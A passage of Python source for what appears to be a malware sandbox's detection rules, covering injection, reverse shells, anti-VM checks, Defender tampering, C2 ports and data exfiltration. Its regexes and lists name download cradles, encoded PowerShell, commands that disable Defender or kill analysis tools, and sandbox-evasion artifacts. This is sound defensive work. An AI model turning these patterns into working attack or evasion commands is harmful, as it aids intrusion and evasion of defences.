def _log_tampering(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("type") in EXECS:
        text = _argv_text(ev)
        return f"{text[:200]}{_attempt(ev)}" if CLEAR_LOG_RE.search(text) and ev.get("proc") not in WIN_HELPERS \
            else None
    if ev.get("op") not in ("write", "unlink", "rename", "link"):
        return None
    path = _s(ev.get("path"))
    if base(path) in (".bash_history", ".zsh_history", ".python_history", ".lesshst") and ev.get("op") != "write" or (
            ev.get("op") == "link" and base(path).endswith("_history")) or under(path, "/var/log"):
        return f"{ev.get('op')} {path}{_attempt(ev)}"
    return None


# ------------------------------------------------------------------ checks: execution


def _exec_ok(ev: dict[str, Any]) -> bool:
    return ev.get("type") == "exec" and ev.get("ok", True) and ev.get("src") != "wine"


def _executed_paths(ev: dict[str, Any]) -> list[str]:
    """The exec'd file plus, for interpreters, the script file in argv."""
    paths = [_s(ev.get("path"))]
    name = prog_name(_s(ev.get("path")))
    if name in SHELLS or name in INTERPRETERS:
        for a in (ev.get("argv") or [])[1:4]:
            a = _s(a)
            if a.startswith("-"):
                if a in ("-c", "-e", "-m"):
                    break
                continue
            paths.append(a)
            break
    return paths


#: programs whose output is a program built from source: running it is a build, not a dropped payload
TOOLCHAIN = frozenset({"cc", "gcc", "g++", "c++", "clang", "clang++", "tcc", "ld", "ld.bfd", "ld.gold", "ld.lld",
                       "lld", "collect2", "as", "cc1", "cc1plus", "rustc", "go", "javac", "ghc", "fpc", "nasm"})


def _built(p: str, st: State) -> bool:
    """``p`` came out of a compiler or linker (and not out of a download)."""
    return p in st.built and p not in st.downloaded


def _drop_execute(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    for p in _exec_targets(ev, ctx):
        if p == ctx.sample_path or _built(p, st):
            continue
        if st.was_written(p, ctx):
            return f"wrote then executed {p}"
        if p in st.exec_bit:
            return f"chmod +x then executed {p}"
    return None


def _build_execute(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    for p in _exec_targets(ev, ctx):
        if p != ctx.sample_path and _built(p, st):
            return f"compiled, then executed {p}"
    return None


def _download_execute(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if _exec_ok(ev) and any(PAYLOAD_MARKER in _s(a) for a in ev.get("argv") or []):
        return "the payload served by the simulated internet was executed"
    for p in _exec_targets(ev, ctx):
        written = st.was_written(p, ctx)
        if written is not None and written in st.downloaded:
            return f"executed {p}, written after a download from the simulated internet"
    return None


def _fetched_code(ev: dict[str, Any], ctx: RuleContext) -> str | None:
    """A download of an executable or a script that the client asked for by its name (extension)."""
    if ev.get("type") == "ftp":
        if ev.get("command") == "RETR" and STANDIN_EXT_RE.search(_s(ev.get("file"))):
            return f"FTP RETR {ev.get('file')} from {ev.get('dst')}"
        return None
    kinds = VIEWER_CODE_STANDINS if ctx.role == "viewer" else CODE_STANDINS
    if ev.get("served") == "payload" and ev.get("standin") in kinds and ev.get("standin_by") in ("name", "accept"):
        return f"{ev.get('method')} {ev.get('url')} (answered with a harmless {ev.get('standin')} stand-in)"
    return None


STANDIN_EXT_RE = re.compile(r"\.(exe|scr|com|pif|dll|cpl|msi|elf|sh|ps1|vbs|vbe|js|jse|wsf|hta|bat|cmd|py)$", re.I)


def _downloads_code(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    return _fetched_code(ev, ctx)


def _script_host_downloads(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ctx.platform != "windows" or ctx.role not in ("script", "viewer"):
        return None
    return _fetched_code(ev, ctx)


LOLBIN_DOWNLOAD_RE = re.compile(
    r"\b(?:powershell|pwsh)(?:\.exe)?\b.*(?:downloadfile|downloadstring|downloaddata|invoke-webrequest|\biwr\b"
    r"|invoke-restmethod|\birm\b|start-bitstransfer|net\.webclient|https?://)"
    r"|\bcertutil(?:\.exe)?\b.*(?:-urlcache|-verifyctl).*https?://|\bbitsadmin(?:\.exe)?\b.*/transfer"
    r"|\bmshta(?:\.exe)?\W+(?:\"?https?://|\"?javascript:|\"?vbscript:)"
    r"|\bregsvr32(?:\.exe)?\b.*/i:\s*https?://|\brundll32(?:\.exe)?\b.*(?:javascript:|url\.dll.*https?://)"
    r"|\bmsiexec(?:\.exe)?\b.*https?://|\b(?:curl|wget)(?:\.exe)?\s.*https?://[^ ]*\.(?:exe|dll|scr|ps1|vbs|hta|bat)\b",
    re.I | re.S)
ENCODED_PS_RE = re.compile(r"\b(?:powershell|pwsh)(?:\.exe)?\b.*\s-(?:e|ec|enc|enco|encodedcommand)"
                           r"\s+[A-Za-z0-9+/=]{16,}", re.I | re.S)


def _windows_cmdline(ev: dict[str, Any]) -> str | None:
    """The command line of a program a Windows sample started (Wine's trace), or None."""
    if ev.get("type") not in EXECS or ev.get("src") != "wine" or ev.get("proc") in WIN_HELPERS:
        return None
    return _argv_text(ev)


def _lolbin_download(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    text = _windows_cmdline(ev)
    if text is not None and LOLBIN_DOWNLOAD_RE.search(text):
        return text[:240]
    return None


def _encoded_powershell(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    text = _windows_cmdline(ev)
    if text is not None and ENCODED_PS_RE.search(text):
        return text[:240]
    return None


SELF_COPY_TOOLS = {"cp", "install", "dd", "rsync", "mv", "cat", "tee", "ln"}
COPY_APIS = ("CopyFileA", "CopyFileW", "CopyFileExA", "CopyFileExW", "MoveFileA", "MoveFileW", "MoveFileExA",
             "MoveFileExW")


def _self_copy(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    typ = ev.get("type")
    if typ == "api" and ev.get("fn") in COPY_APIS and ev.get("proc") not in WIN_HELPERS:
        args = [_s(a) for a in ev.get("args") or []]
        if len(args) >= 2 and ctx.sample_path and win_to_unix(args[0], ctx.wine_prefix, ctx.home).lower() == \
                ctx.sample_path.lower():
            dest = win_to_unix(args[1], ctx.wine_prefix, ctx.home)
            if dest and len(st.self_copies) < 1000:
                st.self_copies.add(dest)
            return f"{ev.get('fn')} {args[0]} -> {args[1]}"
        return None
    if typ == "exec" and ev.get("src") != "wine" and ev.get("ok", True):
        argv = [_s(a) for a in ev.get("argv") or []]
        me = (ctx.sample_path, base(ctx.sample_path), "./" + base(ctx.sample_path))
        if prog_name(_s(ev.get("path"))) in SELF_COPY_TOOLS and ctx.sample_path and any(
                a in me or a.startswith("if=") and a[3:] in me for a in argv[1:]):
            dest = argv[-1] if argv[-1] not in me else ""
            if dest.startswith("of="):
                dest = dest[3:]
            if dest and len(st.self_copies) < 1000:
                st.self_copies.add(dest)
            return " ".join(argv)[:200]
        return None
    if typ == "file" and ev.get("op") in ("write", "link", "rename") and ev.get("ok", True) and ctx.platform == "linux":
        path = _written_path(ev)
        if st.self_read_t is None or path not in st.self_copies or path == ctx.sample_path or _quiet(path, ctx):
            return None
        return f"read its own file, then wrote {path}{_attempt(ev)}"
    return None


def _self_copy_executed(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    for p in _exec_targets(ev, ctx):
        if p != ctx.sample_path and (p in st.self_copies or p.lower() in {c.lower() for c in st.self_copies}
                                     if ctx.platform == "windows" else p in st.self_copies):
            return f"executed its copy {p}"
    return None


def _fileless(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if not _exec_ok(ev):
        return None
    path = _s(ev.get("path"))
    if re.match(r"^/proc/(self|\d+)/fd/\d+$", path) or path.startswith("/memfd:") or "(deleted)" in path:
        return f"exec {path}"
    return None


def _shell_spawned(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ctx.role != "program" or ev.get("type") != "exec" or not ev.get("ok", True):
        return None
    name = prog_name(_s(ev.get("path")))
    if ev.get("src") == "wine":
        if ev.get("proc") not in WIN_HELPERS and _prog(ev) + ".exe" in WIN_SHELLS:
            return f"{_prog(ev)}.exe: {' '.join(_s(a) for a in ev.get('argv') or [])[:200]}"
        return None
    if (name in SHELLS or name in INTERPRETERS) and _s(ev.get("path")) != ctx.sample_path:
        return f"{ev.get('path')} {' '.join(_s(a) for a in (ev.get('argv') or [])[1:])[:200]}"
    return None


def _reverse_shell(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    """A shell started by (or in) a process that connected to a raw IP address or a C2 port."""
    typ = ev.get("type")
    if typ == "exec" and ev.get("ok", True):
        if ev.get("src") == "wine":
            if st.raw_conn_pids and ev.get("proc") not in WIN_HELPERS and _prog(ev) in ("cmd", "powershell", "pwsh"):
                return f"{_prog(ev)}.exe started after a connection to a raw IP address or C2 port"
            return None
        pid = ev.get("pid")
        ppid = ev.get("ppid")
        # a child whose clone strace printed after its exec has no known parent: any raw connection counts
        if prog_name(_s(ev.get("path"))) in SHELLS and st.raw_conn_pids and (
                pid in st.raw_conn_pids or ppid in st.raw_conn_pids or ppid is None):
            return f"{ev.get('path')} started by a process connected to a raw IP address or C2 port"
        return None
    if typ == "connect" and ev.get("pid") in st.raw_conn_pids and st.proc_exe.get(ev.get("pid")) in SHELLS:
        return f"the shell {st.proc_exe.get(ev.get('pid'))} (pid {ev.get('pid')}) connected to {ev.get('dst')}"
    return None


def _viewer_spawns_shell(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ctx.role != "viewer" or ev.get("type") != "exec" or not ev.get("ok", True):
        return None
    name, parent = _exec_names(ev)
    if ev.get("src") == "wine":
        if name in WIN_SHELLS:
            return f"{name}: {' '.join(_s(a) for a in ev.get('argv') or [])[:200]}"
        return None
    if parent in ctx.viewer_exes and (name in SHELLS or name in INTERPRETERS or name in DOWNLOADERS):
        return f"{parent} started {ev.get('path')} {' '.join(_s(a) for a in (ev.get('argv') or [])[1:])[:200]}"
    return None


def _privilege_escalation(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("type") == "exec":
        if prog_name(_s(ev.get("path"))) in PRIV_TOOLS:
            return f"exec {' '.join(_s(a) for a in ev.get('argv') or [])[:200]}"
        return None
    if _is_write(ev) and (under(_written_path(ev), "/etc/sudoers") or under(_written_path(ev), "/etc/sudoers.d")
                          or under(_written_path(ev), "/etc/passwd")):
        return f"{ev.get('op')} {_written_path(ev)}{_attempt(ev)}"
    return None


# ------------------------------------------------------------------ checks: processes


CREATE_SUSPENDED = 0x4
#: relayed calls on another process (Wine's parser drops those on the calling process itself)
REMOTE_WRITE_APIS = frozenset({"WriteProcessMemory", "NtWriteVirtualMemory", "ZwWriteVirtualMemory",
                               "NtUnmapViewOfSection", "ZwUnmapViewOfSection", "CreateRemoteThread",
                               "CreateRemoteThreadEx", "VirtualAllocEx", "VirtualAllocExNuma", "VirtualProtectEx"})
REMOTE_CONTEXT_APIS = frozenset({"SetThreadContext", "Wow64SetThreadContext", "NtSetContextThread"})
INJECTION_APIS = frozenset({"WriteProcessMemory", "NtWriteVirtualMemory", "ZwWriteVirtualMemory", "CreateRemoteThread",
                            "CreateRemoteThreadEx", "NtQueueApcThread", "QueueUserAPC"})
PAGE_EXECUTE_ANY = 0x10 | 0x20 | 0x40 | 0x80


def _win_injection(ev: dict[str, Any]) -> str | None:
    if ev.get("proc") in WIN_HELPERS:
        return None
    fn = _s(ev.get("fn"))
    args = [_s(a) for a in ev.get("args") or []]
    if fn in INJECTION_APIS:
        return f"{fn}({', '.join(args[:4])})"
    if fn in ("VirtualAllocEx", "VirtualAllocExNuma") and len(args) > 4 and _hex(args[4]) & PAGE_EXECUTE_ANY:
        return f"{fn} executable memory in another process ({', '.join(args[:5])})"
    if fn == "VirtualProtectEx" and len(args) > 3 and _hex(args[3]) & PAGE_EXECUTE_ANY:
        return f"{fn} makes another process's memory executable ({', '.join(args[:4])})"
    return None


def _injection(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    typ = ev.get("type")
    if typ == "api":
        return _win_injection(ev)
    if typ == "inject":
        return f"{ev.get('call')} into pid {ev.get('target')}{_attempt(ev)}"
    if typ == "ptrace":
        req = _s(ev.get("request"))
        if req in ("PTRACE_ATTACH", "PTRACE_SEIZE", "PTRACE_POKETEXT", "PTRACE_POKEDATA", "PTRACE_POKEUSER",
                   "PTRACE_SETREGS", "PTRACE_SETREGSET"):
            return f"ptrace {req} pid {ev.get('target')}{_attempt(ev)}"
        return None
    if typ == "file" and ev.get("op") == "write":
        m = re.match(r"^/proc/(\d+)/mem$", _s(ev.get("path")))
        if m and int(m.group(1)) != ev.get("pid"):
            return f"open {ev.get('path')} for writing{_attempt(ev)}"
    return None


def _hollowing(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    """A process created suspended, then its memory unmapped or written and its thread's context set."""
    if ev.get("proc") in WIN_HELPERS or not st.suspended:
        return None
    fn = _s(ev.get("fn"))
    if fn not in REMOTE_WRITE_APIS and fn not in REMOTE_CONTEXT_APIS:
        return None
    unmapped = fn in ("NtUnmapViewOfSection", "ZwUnmapViewOfSection")
    if unmapped or st.remote_writes and st.remote_contexts:
        return f"created {st.suspended[0][:120]} suspended, then {fn} on it"
    return None


HOOK_TYPES = {0x2: "WH_KEYBOARD", 0xD: "WH_KEYBOARD_LL"}


def _keyboard_hook(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if _s(ev.get("fn")).startswith("SetWindowsHookEx") and ev.get("proc") not in WIN_HELPERS:
        args = ev.get("args") or []
        kind = HOOK_TYPES.get(_hex(args[0])) if args else None
        if kind:
            return f"{ev.get('fn')}({kind})"
    return None


DEBUGGER_APIS = frozenset({"IsDebuggerPresent", "CheckRemoteDebuggerPresent", "NtSetInformationThread",
                           "ZwSetInformationThread"})


def _anti_debug(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("type") == "api":
        fn = _s(ev.get("fn"))
        if fn in DEBUGGER_APIS and ev.get("proc") not in WIN_HELPERS:
            return f"{fn}" + (" (ThreadHideFromDebugger)" if "SetInformationThread" in fn else "")
        return None
    if ev.get("request") == "PTRACE_TRACEME":
        return "ptrace(PTRACE_TRACEME): checks for a debugger"
    return None


#: programs that end processes by name (a sample naming an analysis or security tool to them is tampering)
KILL_BY_NAME = frozenset({"pkill", "killall", "killall5", "taskkill", "tskill"})  # as _prog names them
SECURITY_TOOL_RE = re.compile(
    r"(?<![\w.-])(?:strace|ltrace|gdb|tcpdump|tshark|dumpcap|wireshark|sysdig|falco|auditd|osqueryd|bwrap"
    r"|mailvm[\w.-]*|procmon(?:64)?|procexp(?:64)?|processhacker|autoruns(?:c)?|x32dbg|x64dbg|ollydbg|windbg"
    r"|immunitydebugger|idaq?(?:64)?|ida64|fiddler|httpdebuggerui|sysmon(?:64)?|vboxservice|vboxtray|vmtoolsd"
    r"|vmwaretray|vmwareuser|msmpeng|mpcmdrun|msseces|nissrv|securityhealthservice|avp|avgui|avastui|ekrn|egui"
    r"|bdagent|mbam|mbamservice|mbamtray|clamd|freshclam)(?:\.exe)?(?![\w.-])", re.I)
PS_KILL_RE = re.compile(r"\bstop-process\b|\bwmic(?:\.exe)?\b.*\bprocess\b.*\b(?:delete|terminate)\b", re.I | re.S)
DEFENDER_OFF_RE = re.compile(
    r"set-mppreference\b.*-disable(?:realtimemonitoring|behaviormonitoring|ioavprotection|scriptscanning"
    r"|blockatfirstseen|intrusionpreventionsystem)\s+(?:\$?true|1)\b"
    r"|add-mppreference\b.*-exclusion(?:path|process|extension)\b"
    r"|\bsc(?:\.exe)?\s+(?:stop|delete|config)\s+\"?(?:windefend|wdnissvc|wdfilter|sense|wscsvc|securityhealthservice"
    r"|mpssvc)\b"
    r"|\bnet1?(?:\.exe)?\s+stop\s+\"?(?:windefend|wscsvc|mpssvc|sense|windows defender)"
    r"|\bnetsh(?:\.exe)?\s+(?:advfirewall\s+set\s+\w+\s+state\s+off|firewall\s+set\s+opmode\s+(?:mode=)?disable)"
    r"|reg(?:\.exe)?\s+add\s.*\\windows defender\b.*\bdisable(?:antispyware|realtimemonitoring|antivirus)\b",
    re.I | re.S)


DEFENDER_KEY_RE = re.compile(r"\\Windows Defender\\(?:.*\\)?Disable(?:AntiSpyware|AntiVirus|RealtimeMonitoring"
                             r"|BehaviorMonitoring|OnAccessProtection|ScanOnRealtimeEnable|IOAVProtection)$", re.I)


def _security_tools(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    """Ending analysis or security tools by name, or switching Windows' own defences off."""
    if ev.get("type") == "reg_set":
        text = f"{_s(ev.get('key'))}\\{_s(ev.get('value'))}"
        data = _s(ev.get("data")).strip().lower()
        if DEFENDER_KEY_RE.search(text) and data not in ("", "0", "dword:00000000", "0x0", '"0"'):
            return f"{text} = {_s(ev.get('data'))[:40]}"
        return None
    if ev.get("type") not in EXECS or (ev.get("src") == "wine" and ev.get("proc") in WIN_HELPERS):
        return None
    argv = [_s(a) for a in ev.get("argv") or []]
    if not argv:
        return None
    text = _argv_text(ev)
    if DEFENDER_OFF_RE.search(text):
        return text[:240]
    # Wine's trace gives one command line: the program, then its arguments
    args = _win_tokens(argv[0])[1:] if ev.get("src") == "wine" else argv[1:]
    rest = " ".join(args)
    if _prog(ev) in KILL_BY_NAME or PS_KILL_RE.search(text):
        named = SECURITY_TOOL_RE.search(rest[:400])
        if named:
            return f"{text[:200]} (ends {named.group(0)})"
    return None


def _sandbox_tampering(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    """Signals or ptrace aimed at the sandbox itself: its pid 1 (the process the monitor's trace is
    anchored to, which keeps the run alive) or every process at once (kill(-1))."""
    typ = ev.get("type")
    if typ == "kill" and _s(ev.get("signal")).strip() not in ("0", ""):
        ns, target = ev.get("ns_target"), ev.get("target")
        if ns == 1:
            return f"kill(1, {_s(ev.get('signal'))}): the sandbox's init{_attempt(ev)}"
        if ns == -1 or (ns is None and target == -1):
            return f"kill(-1, {_s(ev.get('signal'))}): every process it may signal{_attempt(ev)}"
    if typ == "ptrace" and ev.get("ns_target") == 1 and "TRACEME" not in _s(ev.get("request")):
        return f"ptrace {_s(ev.get('request'))} on the sandbox's init{_attempt(ev)}"
    return None


def _memory_exhaustion(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("type") == "oom_kill":
        limit = ev.get("limit")
        size = f" of {int(limit) >> 20} MiB" if isinstance(limit, int) and limit > 0 else ""
        return (f"{ev.get('count')} process(es) killed by the kernel at the sandbox's memory limit{size}: what "
                "they would have done after that was not seen")
    return None


VM_PATHS = ("/sys/class/dmi/id", "/sys/devices/virtual/dmi", "/sys/hypervisor", "/proc/xen", "/proc/scsi/scsi",
            "/.dockerenv", "/run/.containerenv", "/proc/vz", "/proc/1/cgroup", "/sys/firmware/acpi/tables",
            "/proc/sysinfo", "/dev/vboxguest", "/dev/vboxuser")


VM_FILES_WIN = frozenset({
    "vmmouse.sys", "vmhgfs.sys", "vmci.sys", "vmmemctl.sys", "vmrawdsk.sys", "vmusbmouse.sys", "vm3dmp.sys",
    "vboxmouse.sys", "vboxguest.sys", "vboxsf.sys", "vboxvideo.sys", "vboxdisp.dll", "vboxhook.dll", "vboxogl.dll",
    "vboxmrxnp.dll", "vboxservice.exe", "vboxtray.exe", "vmtoolsd.exe", "vmwaretray.exe", "vmwareuser.exe",
    "vmguestlib.dll", "qemu-ga.exe", "prl_cc.exe", "prl_tools.exe", "sbiedll.dll", "xenservice.exe", "vmsrvc.exe",
    "vmusrvc.exe", "joeboxcontrol.exe", "joeboxserver.exe"})
VM_DIRS_WIN = ("/program files/vmware/", "/program files/oracle/virtualbox guest additions",
               "/program files/qemu-ga", "/program files/parallels/")
VM_KEY_RE = re.compile(r"VMware|VirtualBox|\\VBox|\\vmci\b|\\vmhgfs|\\vmmouse|\\vmtools|\\ACPI\\(?:DSDT|FADT|RSDT)\\"
                       r"|\\Services\\Disk\\Enum|Sandboxie|\\SbieDrv|\\qemu-ga|\\Xen", re.I)
VM_WMIC_RE = re.compile(r"wmic(?:\.exe)?\W.*\b(bios|computersystem|baseboard|diskdrive|csproduct)\b.*\bget\b", re.I)


def _anti_vm_windows(ev: dict[str, Any], ctx: RuleContext) -> str | None:
    typ = ev.get("type")
    if ev.get("proc") in WIN_HELPERS:
        return None
    if typ in ("reg_open", "reg_query"):
        key = _s(ev.get("key"))
        if typ == "reg_query" or VM_KEY_RE.search(key) and not ev.get("create"):
            return f"registry {key}" + (f"\\{ev.get('value')}" if typ == "reg_query" else "")
        return None
    if typ == "api":
        if _s(ev.get("fn")).startswith("GetModuleHandle"):
            return f"{ev.get('fn')}({_s((ev.get('args') or [''])[0])}): looks for a sandbox or analysis DLL"
        return None
    if typ in EXECS:
        text = _argv_text(ev)
        return f"{text[:200]}" if VM_WMIC_RE.search(text) else None
    if ev.get("op") in ("read", "probe"):
        path = _s(ev.get("path"))
        low = path.lower()
        if low.startswith(ctx.wine_prefix.lower() + "/") and (base(low) in VM_FILES_WIN or any(
                d in low for d in VM_DIRS_WIN)):
            return f"{ev.get('op')} {path}"
    return None


#: runtimes that read the machine's hardware description for themselves, whatever program they run
RUNTIMES_READING_HARDWARE = frozenset({"mono", "mono-sgen", "java", "node", "dotnet"})
#: process listers read every /proc/PID/ file, /proc/1/cgroup included, to match names
PROCESS_LISTERS = frozenset({"pkill", "pgrep", "ps", "top", "killall", "pidof", "pstree", "htop"})


def _anti_vm(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ctx.platform == "windows":
        hit = _anti_vm_windows(ev, ctx)
        if hit:
            return hit
    if ev.get("type") == "exec":
        if prog_name(_s(ev.get("path"))) in VM_TOOLS:
            return f"exec {' '.join(_s(a) for a in ev.get('argv') or [])[:200]}"
        return None
    if ctx.platform != "linux" or ev.get("op") not in ("read", "probe"):
        return None  # Wine itself reads DMI and cpuinfo to fill its registry
    path = _s(ev.get("path"))
    exe = st.proc_exe.get(ev["pid"]) if isinstance(ev.get("pid"), int) else None
    if exe in RUNTIMES_READING_HARDWARE:
        return None  # a language runtime sizing itself (Mono reads /sys for the CPU topology)
    if exe in PROCESS_LISTERS and path.startswith("/proc/"):
        return None
    if any(under(path, p) for p in VM_PATHS):
        return f"{ev.get('op')} {path}"
    return None


def _cpuinfo(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ctx.platform == "linux" and ev.get("op") == "read" and _s(ev.get("path")) == "/proc/cpuinfo":
        return "read /proc/cpuinfo"
    return None


LONG_SLEEP_S = 30.0


DELAY_CMD_RE = re.compile(r"\bping(?:\.exe)?\s+.*-n\s+(\d+)|\btimeout(?:\.exe)?\s+/t\s+(\d+)"
                          r"|\bstart-sleep\s+(?:-s(?:econds)?\s+)?(\d+)", re.I)


def _long_sleep(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    typ = ev.get("type")
    if typ == "api":
        if _s(ev.get("fn")) in ("Sleep", "SleepEx") and ev.get("proc") not in WIN_HELPERS:
            ms = _hex((ev.get("args") or ["0"])[0])
            if LONG_SLEEP_S * 1000 <= ms < 0xFFFFFFFF:
                return f"{ev.get('fn')}({ms} ms)"
        return None
    if typ in EXECS:
        m = DELAY_CMD_RE.search(_argv_text(ev))
        if m and ev.get("proc") not in WIN_HELPERS:
            n = int(next(g for g in m.groups() if g))
            if n >= LONG_SLEEP_S:
                return f"delay command: {_argv_text(ev)[:160]}"
        return None
    secs = ev.get("seconds")
    if isinstance(secs, (int, float)) and secs >= LONG_SLEEP_S:
        return f"sleep {secs:g} s"
    return None


CLONE_FAILURES_MIN = 5
CONCURRENT_PROCESSES_MIN = 100


def _resource_exhaustion(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("type") == "clone_failed" and st.clone_failures == CLONE_FAILURES_MIN:
        return f"{st.clone_failures} process creations refused at the limit ({st.forks} processes created)"
    if ev.get("type") == "fork" and st.alive == st.max_alive == CONCURRENT_PROCESSES_MIN:
        return f"{st.max_alive} processes alive at once ({st.forks} created)"
    return None


def _listen_address(ev: dict[str, Any], st: State) -> tuple[str, bool] | None:
    """(ip:port, loopback only) of a successful listen() on an internet socket."""
    if ev.get("type") != "listen" or not ev.get("ok", True):
        return None
    where = st.inet_binds.get(_s(ev.get("socket")))
    if where is None:
        return None
    host = where.rsplit(":", 1)[0].strip("[]")
    ip = _is_ip(host)
    return where, bool(ip is not None and ip.is_loopback)


def _listens(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    la = _listen_address(ev, st)
    return f"listen() on {la[0]}" if la is not None and not la[1] else None


def _listens_loopback(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    la = _listen_address(ev, st)
    return f"listen() on {la[0]} (this machine only)" if la is not None and la[1] else None


def _library_writable(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    path = _s(ev.get("path"))
    if ev.get("src") == "wine":
        low = path.lower().replace("\\", "/")
        own = ("z:" + ctx.sample_path).lower()
        if ev.get("native") and not low.startswith("c:/windows/") and low != own and not low.endswith(
                (".exe", ".scr", ".com", ".pif")):  # a program's own image: an execution, seen by the exec rules
            return f"native DLL {path}"
        return None
    if path == ctx.sample_path or _quiet(path, ctx):
        return None
    if any(under(path, d) for d in (ctx.work_dir, "/tmp", "/var/tmp", "/dev/shm", ctx.home)) or path.startswith(
            "/memfd:"):
        return f"mapped executable {path}"
    return None


# ------------------------------------------------------------------ checks: network


def _remote_ip(ev: dict[str, Any]) -> tuple[str, int] | None:
    if ev.get("family") not in ("inet", "inet6") and ev.get("type") not in ("tcp",):
        return None
    ip = _is_ip(_s(ev.get("ip")))
    port = ev.get("port")
    if ip is None or not isinstance(port, int) or ip.is_loopback or ip.is_unspecified or ip.is_multicast:
        return None
    return str(ip), port


def _raw_ip_target(ev: dict[str, Any], r: tuple[str, int], st: State) -> bool:
    """Is ``r`` (ip, port) an address the sample did not look up?"""
    if r[1] in (0, 53):
        return False
    return not (ipaddress.ip_address(r[0]) in FAKE_DNS_POOL or r[0] in st.dns or ev.get("name"))


def _raw_ip(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    r = _remote_ip(ev)
    if r is None or not _raw_ip_target(ev, r, st):
        return None
    return f"{_s(ev.get('dst')) or r[0] + ':' + str(r[1])} ({ev.get('type')})"


#: ports of IRC (bots' C2) and of well-known RATs and backdoors
C2_PORTS: dict[int, str] = {**{p: "IRC" for p in range(6660, 6670)}, 6697: "IRC over TLS", 7000: "IRC",
                            1337: "backdoor", 31337: "backdoor (Back Orifice)", 4444: "backdoor (Metasploit)",
                            12345: "backdoor (NetBus)", 54321: "backdoor", 1604: "DarkComet", 5552: "njRAT",
                            6606: "AsyncRAT", 7707: "AsyncRAT", 8808: "AsyncRAT", 2404: "Remcos", 1177: "njRAT",
                            3460: "Poison Ivy"}


def _c2_port(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    r = _remote_ip(ev)
    if r is None or r[1] not in C2_PORTS:
        return None
    who = _s(ev.get("name")) or st.dns.get(r[0], "") or r[0]
    return f"{who}:{r[1]} ({C2_PORTS[r[1]]} port)"


def _irc(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    return f"IRC {ev.get('command')} {_s(ev.get('args'))[:120]} to {ev.get('dst')}"


def _exfil_smtp(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("message"):
        att = ev.get("attachments") or []
        return (f"mail from {ev.get('mail_from')} to {', '.join(_s(r) for r in (ev.get('rcpt') or [])[:3])} via "
                f"{ev.get('name') or ev.get('dst')} ({ev.get('bytes')} bytes, subject {_s(ev.get('subject'))[:80]!r}"
                + (f", attachments {', '.join(_s(a) for a in att[:3])}" if att else "") + ")")
    if ev.get("auth_user"):
        return f"logs in to the mail server {ev.get('name') or ev.get('dst')} as {ev.get('auth_user')}"
    return None


def _exfil_ftp(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("command") in ("STOR", "STOU", "APPE"):
        return f"FTP upload of {ev.get('file')} ({ev.get('bytes')} bytes) to {ev.get('name') or ev.get('dst')}" + (
            f" as {ev.get('user')}" if ev.get("user") else "")
    return None


HTTP_UPLOAD_MIN = 1024


def _http_upload(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    if ev.get("method") not in ("POST", "PUT"):
        return None
    files = ev.get("upload_files") or []
    size = ev.get("body_bytes") if isinstance(ev.get("body_bytes"), int) else 0
    if files or size >= HTTP_UPLOAD_MIN:
        return f"{ev.get('method')} {ev.get('url')} ({size} bytes" + (
            f", files {', '.join(_s(f) for f in files[:3])})" if files else ")")
    return None


MESSAGING_HOSTS = {"api.telegram.org": "Telegram bot API", "discord.com": "Discord", "discordapp.com": "Discord",
                   "canary.discord.com": "Discord", "ptb.discord.com": "Discord", "hooks.slack.com": "Slack webhook"}


def _messaging_api(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    typ = ev.get("type")
    host = (_s(ev.get("host")).split(":", 1)[0] if typ == "http" else _s(ev.get("sni"))).lower().rstrip(".")
    if host not in MESSAGING_HOSTS:
        return None
    if typ == "http":
        path = _s(ev.get("path"))
        if host == "api.telegram.org" and not path.startswith("/bot"):
            return None
        if "discord" in host and "/api/webhooks" not in path:
            return None
        return f"{MESSAGING_HOSTS[host]}: {ev.get('method')} {ev.get('url')}"
    return f"{MESSAGING_HOSTS[host]}: TLS to {host}"


IP_LOOKUP_HOSTS = frozenset({"api.ipify.org", "api64.ipify.org", "ipinfo.io", "ip-api.com", "checkip.amazonaws.com",
                             "icanhazip.com", "ifconfig.me", "ifconfig.co", "checkip.dyndns.org", "wtfismyip.com",
                             "myexternalip.com", "ipecho.net", "ident.me", "api.myip.com", "freegeoip.app",
                             "geoplugin.net", "www.geoplugin.net", "ipwho.is", "ipapi.co", "ip.seeip.org"})


def _ip_lookup(ev: dict[str, Any], ctx: RuleContext, st: State) -> str | None:
    typ = ev.get("type")
